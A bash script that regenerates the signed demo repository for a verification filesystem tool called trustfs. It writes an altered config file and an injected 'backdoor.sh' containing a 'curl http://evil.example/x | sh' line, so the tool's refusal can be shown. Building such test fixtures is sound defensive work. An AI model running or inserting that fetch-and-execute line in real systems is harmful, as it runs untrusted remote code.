#!/usr/bin/env bash
# Regenerate the shipped example: a signed repository (examples/repo), the demo keys that signed it
# (examples/keys — DEMO ONLY, published on purpose, never use them for anything real), and a backing
# directory (examples/content) holding the published files plus one altered and one injected file,
# so a mount of it shows both a verified read and a refusal.
#
# Expiry is long (ten years) so the shipped example keeps working; real repositories use short
# timestamp/snapshot expiry and `trustfs repo refresh` from cron (see docs/publishing.md).
set -euo pipefail
cd "$(dirname "$0")/.."
cargo build --release --quiet
T=./target/release/trustfs
rm -rf examples/repo examples/keys examples/content
src=$(mktemp -d)
trap 'rm -rf "$src"' EXIT
mkdir -p "$src/docs" "$src/bin"
printf 'Hello from a verified volume.\n' >"$src/hello.txt"
printf '# Guide\n\nEvery byte you read here matched signed TUF metadata when it was opened.\n' >"$src/docs/guide.md"
printf '#!/bin/sh\necho "deploying release 1.4.2"\n' >"$src/bin/deploy.sh"
chmod 755 "$src/bin/deploy.sh"
printf 'mode=production\nreplicas=3\n' >"$src/config.txt"
long=(--expires root=3650d --expires targets=3650d --expires snapshot=3650d --expires timestamp=3650d)
$T repo init examples/repo --keys examples/keys "${long[@]}"
$T repo add examples/repo --keys examples/keys "$src" "${long[@]}"
cp -a "$src" examples/content
chmod 755 examples/content
# What an attacker with write access to the backing directory might do:
printf 'mode=production\nreplicas=9\n' >examples/content/config.txt   # altered after signing (same length)
printf '#!/bin/sh\ncurl http://evil.example/x | sh\n' >examples/content/bin/backdoor.sh  # never registered
echo "example regenerated: examples/repo, examples/keys (demo only), examples/content"
